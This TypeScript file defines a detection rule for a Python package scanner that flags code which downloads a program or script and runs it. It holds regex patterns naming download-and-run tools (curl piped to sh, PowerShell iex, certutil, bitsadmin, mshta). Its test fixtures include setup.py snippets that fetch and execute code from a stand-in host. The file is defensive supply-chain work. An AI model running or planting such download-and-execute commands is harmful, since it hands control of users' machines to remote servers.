import { defineRule } from '../types.js';
import type { PyPackage, PyReport } from '../../analysis/python/model.js';
import { short, triggerOf } from '../../analysis/python/model.js';
import { at, isAuto, when } from './util.js';
import { HOSTILE_CLASSES, classifyHost, isHostileHost } from '../../analysis/python/values.js';

const BUILD_RE = /^\s*(?:(?:ba|da)?sh\s+)?(?:\.\/configure|\.\/autogen\.sh|\.\/bootstrap|g?make|cmake|ninja|meson|autoreconf|python[\d.]*\s+setup\.py\s+(?:build|build_ext|install))\b/;
/** Unpacking a download does not run it. */
const EXTRACT_RE = /^\s*(?:tar|bsdtar|unzip|gunzip|bunzip2|unxz|xz|7z|7za)(?:\.exe)?\s/;
const SOURCE_ARCHIVE_RE = /\.(?:tar\.(?:gz|xz|bz2|zst)|tgz|tbz2?|txz|zip)$/i;
const SCRIPT_RUN_RE = /^\s*(?:\S*[\\/])?(?:python[\d.]*w?|py|pythonw|node|bash|sh|powershell|pwsh|wscript|cscript)(?:\.exe)?\s+(?:-\S+\s+)*\S+\.(?:py|pyw|js|sh|ps1|vbs)\b/i;
const WINDOWS_PROGRAM_RE = /\.(?:exe|scr|msi|bat|cmd|vbs|ps1|pif|com)$/i;

/** Shell/PowerShell one-liners that fetch something and run it. Bounded quantifiers only. */
const SHELL_DOWNLOAD_RUN = [
  /\b(?:curl|wget)\b[^|;&\n]{0,300}\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b/i,
  /\b(?:curl|wget)\b[^\n]{0,400}?(?:&&|;|\|\|)\s*(?:sudo\s+)?(?:chmod\s+[+0-7]|\.\/|(?:ba|z)?sh\s|python3?\s|nohup\s|start\s)/i,
  /\b(?:Invoke-WebRequest|iwr|Invoke-RestMethod|irm|DownloadFile|DownloadString|DownloadData|Net\.WebClient|Start-BitsTransfer|curl\.exe|wget\.exe)\b[\s\S]{0,1500}?(?:\biex\b|Invoke-Expression|Start-Process|\.exe\b|\.bat\b|\.vbs\b|\.ps1\b|Expand-Archive|&\s*\$)/i,
  /\bcertutil(?:\.exe)?\s+[^\n]{0,40}-urlcache\b/i,
  /\bbitsadmin(?:\.exe)?\s+\/transfer\b/i,
  /\bmshta(?:\.exe)?\s+["']?https?:/i,
  /\bpython[\d.]*\s+-c\s+["'][^"'\n]{0,400}(?:urlopen|requests\.get)[^"'\n]{0,400}exec/i,
];

export function isDownloadRunCommand(cmd: string): boolean {
  return SHELL_DOWNLOAD_RUN.some((re) => re.test(cmd));
}

/** pip itself downloads and runs code; that is the URL-dependency and install-command rules' business. */
const PIP_RE = /\bpip[\d.]*(?:\.exe)?\s+(?:install|download|wheel)\b|-m\s+pip\b/;

export const downloadExecute = defineRule<PyPackage, PyReport>({
  meta: {
    id: 'py/download-execute',
    kind: 'threat',
    category: 'download-execute',
    severity: 'critical',
    confidence: 'high',
    ecosystems: ['pypi'],
    description: 'Downloads code or a program and runs it (exec of a response, curl | sh, PowerShell download + start, write + execute).',
    examples: {
      positive: [
        { files: { 'setup.py': "import os\nos.system('curl -s https://stage.invalid/x.sh | sh')\n" } },
        { files: { 'setup.py': "import urllib.request\nexec(urllib.request.urlopen('https://stage.invalid/p.py').read())\n" } },
        {
          files: {
            'setup.py':
              "import requests, subprocess\nr = requests.get('https://stage.invalid/a.exe')\nwith open('a.exe', 'wb') as f:\n    f.write(r.content)\nsubprocess.Popen('a.exe')\n",
          },
        },
      ],
      negative: [
        { files: { 'setup.py': "import subprocess\nsubprocess.check_call(['make', '-C', 'src'])\n" } },
        { files: { 'pkg/dl.py': "import requests\ndef fetch(u):\n    return requests.get(u).json()\n" } },
      ],
    },
  },
  check(pkg, report) {
    for (const f of pkg.flows) {
      if (f.net === undefined) continue;
      const trigger = triggerOf(f.file, f.ev);
      const where = { path: f.file.path, line: f.ev.line, col: f.ev.col, trigger };
      // Downloaded data handed to a function that puts it into a command line: the server decides what runs.
      if (f.sink.kind === 'command') {
        const hosts = f.net.filter((h) => h !== '');
        const bad = isAuto(trigger) || hosts.some(isHostileHost);
        report({
          ...where,
          severity: bad ? 'critical' : 'high',
          confidence: bad ? 'high' : 'medium',
          message: `Passes data downloaded${hosts.length > 0 ? ` from ${hosts.join(', ')}` : ''} to ${f.callee}(), which runs it in a command (${f.sinkFile}:${f.sink.line}) ${when(trigger)}.`,
        });
        continue;
      }
      // A dead-drop resolver: an address read from a paste or messenger service, handed to a function that
      // downloads from it and saves a program. Whoever edits the paste decides what is installed.
      const drops = f.net.filter((h) => h !== '' && isHostileHost(h));
      if (drops.length === 0 || f.sink.kind !== 'http' || f.sink.destParams?.includes(f.arg) !== true) continue;
      const target = pkg.files.find((x) => x.path === f.sinkFile);
      const saved = target?.facts.writes.find((w) => w.fn === f.sink.fn && w.fromNetwork && w.path !== undefined && WINDOWS_PROGRAM_RE.test(w.path.replace(/\uFFFD/g, '')));
      if (saved === undefined) continue;
      report({ ...where, severity: 'critical', confidence: 'high', message: `Reads a download address from ${drops.join(', ')} and passes it to ${f.callee}(), which saves the program it fetches (${short(saved.path ?? '', 60)}) ${when(trigger)}.` });
    }
    for (const file of pkg.files) {
      for (const e of file.facts.execs) {
        if (!e.fromNetwork) continue;
        const loc = at(file, e);
        const hostile = e.netHost !== undefined && isHostileHost(e.netHost);
        report({ ...loc, confidence: isAuto(loc.trigger) || hostile ? 'high' : 'medium', message: `Executes code downloaded from the network${e.netHost !== undefined ? ` (${e.netHost})` : ''} with ${e.via}() ${when(loc.trigger)}.` });
      }
      for (const c of file.facts.commands) {
        if (!isDownloadRunCommand(c.cmd) && !(c.fromNetwork && /^(?:os\.system|subprocess\.|os\.popen)/.test(c.via) && c.cmd.includes('\uFFFD'))) continue;
        const loc = at(file, c);
        report({
          ...loc,
          confidence: isAuto(loc.trigger) ? 'high' : 'medium',
          message: `Runs a command that downloads and executes a program ${when(loc.trigger)}: ${short(c.cmd)}.`,
          ...(c.fromDecoded ? { decoded: c.cmd.slice(0, 400) } : {}),
        });
      }
      const downloads = file.facts.writes.filter((w) => w.fromNetwork || w.download);
      for (const w of downloads) {
        // A process start that runs the downloaded file by name, sits in the same function, or, like
        // the download, is top-level code or in a function the top level calls directly (not any two
        // functions of setup.py).
        const name = w.path?.split(/[\\/]/).pop()?.replace(/\uFFFD/g, '') ?? '';
        const atTop = (fn: string | undefined): boolean => fn === undefined || file.facts.calledAtTop.has(fn.split('.')[0] ?? fn);
        const related = (ev: { fn: string | undefined; main: boolean }): boolean => ev.fn === w.fn || (atTop(w.fn) && atTop(ev.fn));
        // A cloned repository is source code: only an interpreter started on one of its scripts runs it
        // (a build tool next to a clone is how native builds fetch dependencies).
        const run =
          file.facts.commands.find((c) => !PIP_RE.test(c.cmd) && !EXTRACT_RE.test(c.cmd) && (w.clone !== true || SCRIPT_RUN_RE.test(c.cmd)) && ((name.length > 3 && c.cmd.includes(name)) || related(c))) ??
          file.facts.calls.find((c) => related(c) && /^(?:os\.startfile|ctypes\.windll\.shell32\.ShellExecuteW|win32api\.ShellExecute|runpy\.run_path)$/.test(c.name)) ??
          // made executable: `os.chmod` of the downloaded file, from a drop site (staged for a later start)
          (w.netHost !== undefined && isHostileHost(w.netHost)
            ? file.facts.calls.find((c) => c.name === 'os.chmod' && c.fn === w.fn && name.length > 3 && c.args[0]?.k === 'str' && c.args[0].s.endsWith(name))
            : undefined);
        if (run === undefined) {
          // Downloaded text saved as Python code (a module or a .pth start-up file) runs when imported.
          const loc = at(file, w);
          if (w.path !== undefined && /\.(?:py|pyw|pth)$/i.test(w.path) && isAuto(loc.trigger)) {
            const hostile = w.netHost !== undefined && isHostileHost(w.netHost);
            report({ ...loc, severity: hostile ? 'critical' : 'high', message: `Saves code downloaded${w.netHost !== undefined ? ` from ${w.netHost}` : ''} as a Python file (${short(w.path, 60)}) ${when(loc.trigger)}.` });
            break;
          }
          continue;
        }
        // Building sources fetched from their own project's site (`./configure && make` of a GNU tarball)
        // runs downloaded code by design; from anywhere else it is the dropper shape.
        if ('cmd' in run && BUILD_RE.test(run.cmd) && w.netHost !== undefined && classifyHost(w.netHost) === 'vendor' && (w.path === undefined || SOURCE_ARCHIVE_RE.test(w.path.replace(/\uFFFD/g, 'x')))) continue;
        const loc = at(file, w);
        const executable = w.path !== undefined && /\.(?:exe|dll|scr|bat|cmd|ps1|vbs|js|jar|msi|sh|py|pyw|elf|bin)\b/i.test(w.path);
        const cls = w.netHost !== undefined ? classifyHost(w.netHost) : undefined;
        const hostile = cls !== undefined && HOSTILE_CLASSES.has(cls);
        // A Windows program fetched from a fixed address that its vendor does not own (anyone's file on a
        // repository host, a personal domain) and started: a dropper, even in a function the user calls.
        const dropper = cls === 'unknown' && w.path !== undefined && WINDOWS_PROGRAM_RE.test(w.path.replace(/\uFFFD/g, ''));
        const severity = isAuto(loc.trigger) || hostile || dropper ? 'critical' : executable ? 'high' : 'medium';
        report({
          ...loc,
          severity,
          confidence: isAuto(loc.trigger) || hostile ? 'high' : 'medium',
          message:
            w.clone === true
              ? `Clones a repository${w.netHost !== undefined ? ` from ${w.netHost}` : ''}${w.path !== undefined ? ` into ${short(w.path, 60)}` : ''} and runs a script ${when(loc.trigger)}.`
              : `Downloads a file${w.path !== undefined ? ` (${short(w.path, 60)})` : ''}${w.netHost !== undefined ? ` from ${w.netHost}` : ''} and ${'name' in run && run.name === 'os.chmod' ? 'makes it executable' : 'starts a program'} ${when(loc.trigger)}.`,
        });
        break;
      }
    }
  },
});
